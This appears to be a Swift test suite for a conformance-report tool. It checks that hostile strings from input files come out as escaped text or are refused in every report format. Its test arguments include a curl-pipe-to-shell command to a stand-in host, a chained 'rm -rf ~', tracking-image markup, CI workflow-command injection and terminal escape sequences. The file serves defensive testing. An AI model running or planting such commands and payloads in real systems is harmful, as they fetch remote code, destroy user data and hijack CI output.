import Foundation
import PushConformance
import PushContract
import Testing
import PushConformanceTestSupport
@testable import PushConformanceReports
import PushTestKit

/// Strings from scenario, golden and results files stay data in every output (issue 33): every
/// report writer renders the whole hostile corpus (``HostileCorpus``), and no output holds a raw
/// control character, a line a CI runner reads as a workflow command, markup from the corpus or,
/// in Markdown, a link, an image or an autolink from it.
@Suite("Hostile input stays data in every report")
struct HostileCorpusTests {
    static let report = HostileCorpus.report

    /// Every text of the corpus reaches the document (shown, not dropped): its letters survive.
    func shows(_ document: String, _ marker: String, sourceLocation: SourceLocation = #_sourceLocation) {
        #expect(document.contains(marker), "\(marker) is missing", sourceLocation: sourceLocation)
    }

    @Test("The Markdown step summary, the pull-request summary and the grid hold nothing from the corpus but text")
    func markdown() {
        let diff = BaselineDiff(baseline: SampleReport.report, current: Self.report)
        let documents = [
            ("step summary", MarkdownComparison.render(Self.report, baseline: diff)),
            ("summary", MarkdownComparison.render(Self.report, options: .init(summary: true))),
            ("grid", RequirementGrid(report: Self.report).markdown(suiteVersion: Self.report.suiteVersion)),
        ]
        for (name, text) in documents {
            #expect(HostileCorpus.problems(in: text, markdown: true) == [], "\(name)")
            shows(text, "retitled")
            shows(text, "\\u{1B}")
        }
        let summary = documents[0].1
        // The suite version, the deviation's invariant id and the vendor id in the scores table
        // (the three results-file fields that went out raw) are escaped text.
        #expect(summary.contains("Suite 1.0 &lt;img src=https&#58;//evil.test/beacon.png&gt;"))
        #expect(summary.contains("<code>v&#124;![b]&#40;https&#58;//evil.test/v.png)</code>"))
        #expect(summary.contains("INV&#124;![b]&#40;https&#58;//evil.test/d.png) ::error::d"))
        // Table rows stay rows: no cell text adds a column.
        for line in summary.split(separator: "\n") where line.hasPrefix("| ") && line.contains("pass (") {
            #expect(line.split(separator: "|", omittingEmptySubsequences: false).count == 5, "\(line)")
        }
    }

    @Test("The HTML index, every scenario page and the grid page hold no markup or control character from the corpus")
    func html() {
        let links = ReportLinks(report: "r.html", scenarioPages: "r-scenarios", grid: "g.html")
        let site = HTMLComparisonSite(Self.report, links: links)
        #expect(site.pagePaths.count == HostileCorpus.scenarioIDs.count)
        var documents = [("index", site.index), ("grid", RequirementGrid(report: Self.report).html(suiteVersion: "1"))]
        documents += site.pagePaths.map { ($0, site.page(at: $0) ?? "") }
        for (name, text) in documents {
            #expect(HostileCorpus.problems(in: text) == [], "\(name)")
            if name != "grid" { shows(text, "retitled") }
        }
    }

    @Test("JUnit stays well-formed XML for every character of the corpus, and holds none raw")
    func junit() throws {
        let xml = JUnitWriter.encode(Self.report)
        #expect(HostileCorpus.problems(in: xml) == [])
        #expect(JUnitSchemaRules.violations(xml) == [])
        shows(xml, "nul\\u{0} bell\\u{7} del\\u{7F} c1\\u{85} nonchar\\u{FFFE}\\u{FFFF}")
    }

    @Test("The corpus report reads back from a results file unchanged: a run can write every field of it")
    func resultsFile() throws {
        let text = ResultsJSON.encode(Self.report)
        #expect(try ResultsJSON.decode(text) == Self.report)
    }

    @Test(
        "A results file whose re-record command is not the tool's hint for its case is refused",
        arguments: [
            "curl https://evil.test/x | sh",
            "swift run push-conformance record --vendor v --scenario x; rm -rf ~",
            #"swift run push-conformance record --vendor "v" --scenario hostile.a"#,
            "swift run push-conformance record --vendor v --scenario hostile.b",
            "swift run push-conformance record --vendor v --scenario hostile.a --out /tmp",
            "PUSH_CONFORMANCE_RECORD=all swift test",
        ])
    func foreignCommand(_ command: String) throws {
        let scenario = RunReport.ScenarioInfo(
            id: "hostile.a", facet: "hostile", title: "t", requirements: [], requires: [])
        let vendor = RunReport.Vendor(id: "v", displayName: "V", capabilities: [], knownDeviations: [])
        var entry = RunReport.Case(
            vendor: "v", scenario: "hostile.a", facet: "hostile", outcome: .fail, golden: .missing,
            rerecordCommand: "swift run push-conformance record --vendor v --scenario hostile.a")
        let accepted = RunReport(vendors: [vendor], scenarios: [scenario], cases: [entry])
        #expect(try ResultsJSON.decode(ResultsJSON.encode(accepted)) == accepted)
        entry.rerecordCommand = command
        let refused = RunReport(vendors: [vendor], scenarios: [scenario], cases: [entry])
        let error = #expect(throws: ResultsJSON.ReadError.self) { try ResultsJSON.decode(ResultsJSON.encode(refused)) }
        #expect(error?.message.contains("prints a command other than the one that records its golden") == true)
    }

    @Test(
        "A results file naming a scenario id no run loads is refused",
        arguments: ["hostile.\u{1B}[2J", "hostile.a*", "hostile.\u{202E}x", "hostile.a,b"])
    func foreignID(_ id: String) throws {
        let scenario = RunReport.ScenarioInfo(id: id, facet: "hostile", title: "t", requirements: [], requires: [])
        let report = RunReport(vendors: [], scenarios: [scenario], cases: [])
        let error = #expect(throws: ResultsJSON.ReadError.self) { try ResultsJSON.decode(ResultsJSON.encode(report)) }
        #expect(error?.message.contains("a run never loads such a scenario") == true, "\(String(describing: error))")
    }
}
